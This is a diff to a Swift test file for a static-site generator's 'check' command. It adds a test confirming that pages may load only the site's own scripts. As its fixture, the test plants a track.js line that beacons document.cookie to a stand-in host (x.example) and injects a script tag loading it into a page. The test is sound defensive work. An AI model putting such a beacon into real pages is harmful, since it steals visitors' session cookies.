@@ -1,5 +1,6 @@
 import Foundation
 import GuideRender
+import GuideValidate
 import XCTest
 
 /// Runs the real `cityguide` executable: exit codes and messages are the contract nightly jobs rely on.
@@ -102,7 +103,7 @@ final class CLITests: XCTestCase {
                 "  fix: if you edited the templates, close every element they open and escape & and < in text",
                 "Output/sitemap.xml:2: not well-formed XML: EntityRef: expecting ';'",
                 "  fix: if you edited the templates, close every element they open and escape & and < in text",
-                "Checked 8 pages (22 files) in Output: 8 problems.",
+                "Checked 8 pages (24 files) in Output: 8 problems.",
             ])
     }
 
@@ -140,7 +141,45 @@ final class CLITests: XCTestCase {
             "the HTML and SVG code, the remote script and code beside a src, the remote script's load and the "
                 + "SVG script element; the site's own saved.js is fine")
         XCTAssertFalse(run.stderr.contains("#content"), "an id the other page has is fine")
-        XCTAssertEqual(lines.last, "Checked 8 pages (22 files) in Output: 10 problems.", run.stderr)
+        XCTAssertEqual(lines.last, "Checked 8 pages (24 files) in Output: 10 problems.", run.stderr)
+    }
+
+    /// The scripts a page may load are exactly the site's own (saved places, open now, near me), as cityguide wrote
+    /// them: another file of the assets, or an edited copy of one of them, is refused.
+    func testCheckAllowsExactlyTheSitesOwnScripts() throws {
+        let site = try TestSite.smallWithCoffee()
+        defer { site.remove() }
+        XCTAssertEqual(try cityguide(["build"], in: site.dir).status, 0)
+        let clean = try cityguide(["check", "Output"], in: site.dir)
+        XCTAssertEqual(clean.status, 0, clean.stderr)
+        let assets = try FileManager.default.contentsOfDirectory(
+            atPath: site.dir.appendingPathComponent("Output/assets").path)
+        XCTAssertEqual(
+            Set(assets.filter { $0.hasSuffix(".js") }.map { String($0.prefix { $0 != "." }) }), SiteChecker.ownScripts,
+            "the site writes each of its own scripts and no other")
+        let page = try String(
+            contentsOf: site.dir.appendingPathComponent("Output/san-francisco/coffee/index.html"), encoding: .utf8)
+        XCTAssertTrue(page.contains("assets/near."), "a list loads near me")
+
+        try site.write("Output/assets/track.js", "navigator.sendBeacon('https://x.example/', document.cookie)")
+        try site.write(
+            "Output/assets/saved.js",
+            try String(contentsOf: site.dir.appendingPathComponent("Output/assets/saved.js"), encoding: .utf8) + "x()")
+        try site.write(
+            "Output/san-francisco/coffee/index.html",
+            page.replacingOccurrences(of: "</main>", with: "<script src=\"../../assets/track.js\"></script></main>"))
+        let run = try cityguide(["check", "Output"], in: site.dir)
+        XCTAssertEqual(run.status, 1)
+        for expected in [
+            "Output/assets/saved.js: this is not cityguide's own saved.js (its bytes differ)",
+            "Output/assets/track.js: a script that is not one of cityguide's own",
+            "the script assets/track.js is not one of cityguide's own",
+            "  fix: remove it from the template; the only scripts a page may load are assets/hours.js, assets/near.js, "
+                + "assets/saved.js",
+        ] {
+            XCTAssertTrue(run.stderr.contains(expected), "missing: \(expected)\n\(run.stderr)")
+        }
+        XCTAssertTrue(run.stderr.hasSuffix("3 problems.\n"), run.stderr)
     }
 
     func testHelp() throws {
